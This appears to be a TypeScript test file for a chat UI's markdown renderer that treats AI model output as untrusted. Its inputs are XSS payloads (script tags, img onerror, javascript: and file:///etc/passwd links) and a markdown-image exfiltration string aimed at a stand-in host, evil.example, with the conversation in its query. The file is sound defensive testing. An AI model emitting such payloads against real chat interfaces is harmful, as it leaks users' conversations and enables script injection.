/**
 * The markdown side of the chat renderer (src/ui/chat/markdown.ts), DOM-free: raw HTML stays text, links only
 * http(s), images never become <img>, code is highlighted only when asked. (DOMPurify, the second gate, and the
 * XSS corpus in real Chromium are separate.)
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createMarkdown, highlightCode, isSafeLink } from '../../src/ui/chat/markdown';

const md = createMarkdown({ highlight: true, imageLabel: 'image' });
const plain = createMarkdown({ highlight: false });

describe('chat markdown (untrusted model output)', () => {
  it('shows raw HTML as text (html: false)', () => {
    const out = md.render(
      '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <iframe src="https://evil"></iframe>',
    );
    assert.ok(!/<script|<img|<iframe/i.test(out), out);
    assert.ok(out.includes('&lt;script&gt;'));
  });

  it('links only to absolute http(s) URLs', () => {
    for (const bad of [
      '[x](javascript:alert(1))',
      '[x](JaVaScRiPt:alert(1))',
      '[x](data:text/html,<b>)',
      '[x](file:///etc/passwd)',
      '[x](//evil.example/p)',
      '[x](vscode:extension/x)',
      '[x](command:workbench.action.terminal.new)',
    ]) {
      const out = md.render(bad);
      assert.ok(!out.includes('href='), `${bad} → ${out}`);
    }
    assert.match(md.render('[ok](https://example.com/a?b=1)'), /<a href="https:\/\/example\.com\/a\?b=1">ok<\/a>/);
    assert.match(md.render('see https://example.com'), /href="https:\/\/example\.com"/, 'linkify');
    assert.equal(isSafeLink('https://x'), true);
    assert.equal(isSafeLink(' http://x/'), true);
    assert.equal(isSafeLink('https:/x'), false);
    assert.equal(isSafeLink('mailto:a@b'), false);
  });

  it('never renders an image: the markdown image becomes a labelled link (exfiltration stays a click away)', () => {
    const out = md.render('![secret](https://evil.example/p.png?q=conversation)');
    assert.ok(!/<img/i.test(out), out);
    assert.match(
      out,
      /<a href="https:\/\/evil\.example\/p\.png\?q=conversation" class="image-link"[^>]*>\[image: secret\]<\/a>/,
    );
    const rel = md.render('![x](//evil.example/p.png)');
    assert.ok(!/<img/i.test(rel) && !rel.includes('href='), rel);
  });

  it('highlights a closed fence with highlight.js classes; the plain renderer does not', () => {
    const src = '```ts\nconst x: number = 1;\n```';
    assert.match(md.render(src), /<span class="hljs-keyword">const<\/span>/);
    assert.ok(!plain.render(src).includes('hljs-'));
    assert.equal(highlightCode('x', 'no-such-language'), '');
    assert.ok(highlightCode('SELECT 1', 'sql').includes('hljs-keyword'));
  });

  it('escapes text inside code (no markup can come out of a fence)', () => {
    const out = md.render('```html\n<script>alert(1)</script>\n```');
    assert.ok(!out.includes('<script>'), out);
  });
});
